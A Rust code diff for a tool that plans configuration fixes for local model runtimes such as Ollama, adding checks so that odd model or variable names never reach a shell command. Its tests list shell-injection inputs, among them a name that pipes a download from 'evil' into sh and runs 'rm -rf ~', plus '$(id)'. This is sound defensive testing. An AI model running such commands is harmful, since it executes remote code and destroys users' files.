@@ -16,6 +16,8 @@ pub enum Risk {
     Restart,
     /// The model takes more memory; it was computed that it fits.
     MoreMemory,
+    /// The model takes more memory; whether it fits could not be computed, or it does not.
+    MoreMemoryUnsure,
     /// Answers may become a little less exact.
     Quality,
     /// The system may run short of memory if the number is too high.
@@ -79,6 +81,22 @@ pub enum ByHand {
     FetchAgain,
     /// Run fewer agents at once.
     FewerAgents,
+    /// Choose the new definition in the agent or client: the old one goes on as it was.
+    ChooseDefinition,
+    /// An earlier finding's change does this too.
+    AsAbove,
+    /// The model's name holds what must not stand in a command, so none is shown.
+    OddName,
+    /// macOS forgets such a setting when it restarts.
+    LostAtRestart,
+    /// The tool that the command needs comes in a package of its own.
+    AmdTtm,
+    /// Fetch a file of the model in fewer bits, as the finding names it.
+    FetchSmaller,
+    /// Take a smaller model: no file of this one fits.
+    SmallerModel,
+    /// Tell the client the length that the model really takes.
+    CountOnNative,
 }
 
 /// One step.
@@ -194,8 +212,16 @@ pub struct OllamaCreate {
     pub parameters: OllamaParameters,
 }
 
+impl OllamaCreate {
+    /// The command that makes the same from a file with the definition.
+    #[must_use]
+    pub fn command(&self) -> String {
+        format!("ollama create {} -f Modelfile", self.model)
+    }
+}
+
 /// Parameters of a model definition.
-#[derive(Debug, Clone, PartialEq, Serialize)]
+#[derive(Debug, Clone, PartialEq, Default, Serialize)]
 #[cfg_attr(feature = "specta", derive(specta::Type))]
 pub struct OllamaParameters {
     /// Context length, tokens.
@@ -204,6 +230,32 @@ pub struct OllamaParameters {
     /// Tokens computed at once in prefill.
     #[serde(skip_serializing_if = "Option::is_none")]
     pub num_batch: Option<u32>,
+    /// Tokens drafted ahead.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub draft_num_predict: Option<u32>,
+}
+
+impl OllamaParameters {
+    /// A definition that sets the context length and nothing else.
+    #[must_use]
+    pub fn context(tokens: u32) -> Self {
+        Self { num_ctx: Some(tokens), ..Self::default() }
+    }
+
+    /// As lines of a model definition.
+    fn lines(&self) -> String {
+        let named =
+            [("num_ctx", self.num_ctx), ("num_batch", self.num_batch), ("draft_num_predict", self.draft_num_predict)];
+        let set = named.into_iter().filter_map(|(name, value)| Some(format!("\nPARAMETER {name} {}", value?)));
+        set.collect()
+    }
+
+    /// What a definition's name gets appended.
+    fn suffix(&self) -> String {
+        let named = [("", self.num_ctx), ("batch-", self.num_batch), ("draft-", self.draft_num_predict)];
+        let set = named.into_iter().filter_map(|(name, value)| Some(format!("-{name}{}", value?)));
+        set.collect()
+    }
 }
 
 /// How to see that a fix holds.
@@ -289,21 +341,38 @@ impl Plan {
     }
 
     /// A new definition with another context length, made from `from`.
-    pub(super) fn definition(mut self, from: &str, num_ctx: u32, before: Option<u32>) -> Self {
-        let model = new_name(from, num_ctx);
-        let modelfile = |n: u32| format!("FROM {from}\nPARAMETER num_ctx {n}");
-        self.steps.push(Step::OllamaCreate {
-            body: OllamaCreate {
-                model: model.clone(),
-                from: from.to_owned(),
-                parameters: OllamaParameters { num_ctx: Some(num_ctx), num_batch: None },
-            },
-            modelfile: modelfile(num_ctx),
-            before: before.map(modelfile),
-        });
+    pub(super) fn definition(self, from: &str, num_ctx: u32, before: Option<u32>) -> Self {
+        self.defined(from, OllamaParameters::context(num_ctx), before.map(OllamaParameters::context).as_ref())
+    }
+
+    /// A new definition that sets `parameters`, made from `from`, which sets `before`. A name that must not stand in a
+    /// command gets none: names come from runtimes and from files of strangers, and people paste what is shown here.
+    pub(super) fn defined(
+        mut self,
+        from: &str,
+        parameters: OllamaParameters,
+        before: Option<&OllamaParameters>,
+    ) -> Self {
+        if !is_plain_name(from) {
+            return self.by_hand(ByHand::OddName);
+        }
+        let model = new_name(from, &parameters);
+        let modelfile = |it: &OllamaParameters| format!("FROM {from}{}", it.lines());
+        if let Some(num_ctx) = parameters.num_ctx {
+            self.check = ReadBack::Definition { name: model.clone(), num_ctx };
+        }
         self.undo.push(Step::OllamaDelete { model: model.clone() });
-        self.check = ReadBack::Definition { name: model, num_ctx };
-        self
+        self.steps.push(Step::OllamaCreate {
+            modelfile: modelfile(&parameters),
+            before: before.map(modelfile),
+            body: OllamaCreate { model, from: from.to_owned(), parameters },
+        });
+        self.by_hand(ByHand::ChooseDefinition)
+    }
+
+    /// A command that names a model. A name that must not stand in one gets none.
+    pub(super) fn naming(self, name: &str, line: impl Fn(&str) -> String, undo: Option<String>) -> Self {
+        if is_plain_name(name) { self.command(None, false, line(name), undo) } else { self.by_hand(ByHand::OddName) }
     }
 
     pub(super) fn argument(mut self, runtime: RuntimeKind, before: Option<String>, after: Option<String>) -> Self {
@@ -328,12 +397,20 @@ impl Plan {
     /// A variable of Ollama's environment, as it is set under this system, or under each where that is not known.
     /// Without `after` the variable goes away.
     pub(super) fn ollama(mut self, os: Option<Os>, name: &str, before: Option<&str>, after: Option<&str>) -> Self {
+        // Misspelt names come from what was seen.
+        if !is_plain_setting(name) {
+            return self.by_hand(ByHand::OddName);
+        }
         let systems = os.map_or_else(|| vec![Os::Macos, Os::Windows, Os::Linux], |os| vec![os]);
         for os in systems {
             self.steps.push(environment(os, name, before, after));
-            self.undo.push(environment(os, name, after, before));
+            // What was taken away because nobody reads it need not come back.
+            if before.is_some() || after.is_some() {
+                self.undo.push(environment(os, name, after, before));
+            }
         }
-        self.by_hand(ByHand::RestartRuntime)
+        let this = if os == Some(Os::Macos) && after.is_some() { self.by_hand(ByHand::LostAtRestart) } else { self };
+        this.by_hand(ByHand::RestartRuntime)
     }
 
     pub(super) fn done(self) -> FixPlan {
@@ -364,7 +441,58 @@ fn environment(os: Os, name: &str, before: Option<&str>, after: Option<&str>) ->
     }
 }
 
-/// The name of a definition made from another: what it was made from and its context, so that nothing there is hit.
-pub(super) fn new_name(from: &str, num_ctx: u32) -> String {
-    format!("{}-{num_ctx}", from.replace(':', "-"))
+/// The name of a definition made from another: what it was made from and what it sets, so that nothing there is hit.
+pub(super) fn new_name(from: &str, parameters: &OllamaParameters) -> String {
+    format!("{}{}", from.replace(':', "-"), parameters.suffix())
+}
+
+/// Longest name of a model that stands in a command, bytes.
+const LONGEST_NAME: usize = 80;
+
+/// True where a model's name may stand in a command or a definition: letters, digits and `. _ - : /`, beginning with a
+/// letter or digit, without `..`. Everything else could mean something to a shell.
+#[must_use]
+pub fn is_plain_name(name: &str) -> bool {
+    let good = |c: char| c.is_ascii_alphanumeric() || "._-:/".contains(c);
+    !name.is_empty()
+        && name.len() <= LONGEST_NAME
+        && name.chars().all(good)
+        && name.starts_with(|c: char| c.is_ascii_alphanumeric())
+        && !name.contains("..")
+}
+
+/// True where a name is one of a variable.
+fn is_plain_setting(name: &str) -> bool {
+    let good = |b: u8| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_';
+    !name.is_empty() && name.len() <= LONGEST_NAME && name.bytes().all(good)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_name_that_means_something_to_a_shell_stands_in_no_command() {
+        let bad = ["x; curl evil|sh #\nrm -rf ~\n:v-128k", "$(id)", "a b", "-rf", "../x", "a\u{1b}[2J", "a'b", "é", ""];
+        for name in bad {
+            for plan in [
+                Plan::new(Risk::None).definition(name, 8192, None),
+                Plan::new(Risk::None).naming(name, |it| format!("lms load {it}"), None),
+                Plan::new(Risk::None).ollama(Some(Os::Linux), name, None, None),
+            ] {
+                let plan = plan.done();
+                assert!(plan.steps.iter().chain(&plan.undo).all(|it| it.text().is_none()), "{name:?}: {plan:?}");
+                assert_eq!(plan.steps, [Step::ByHand { what: ByHand::OddName }]);
+            }
+        }
+        assert!(is_plain_name("hf.co/unsloth/Qwen3-30B-A3B-GGUF:Q4_K_M") && is_plain_name("qwen3-coder:v-128k"));
+    }
+
+    #[test]
+    fn what_nobody_reads_is_taken_away_for_good() {
+        let plan = Plan::new(Risk::Restart).ollama(Some(Os::Macos), "OLLAMA_FLASH_ATTN", None, None).done();
+        assert!(plan.undo.is_empty() && plan.steps[0].text().is_some_and(|it| it.contains("unsetenv")));
+        let plan = Plan::new(Risk::Restart).ollama(Some(Os::Macos), "OLLAMA_KEEP_ALIVE", None, Some("24h")).done();
+        assert!(plan.steps.contains(&Step::ByHand { what: ByHand::LostAtRestart }));
+    }
 }
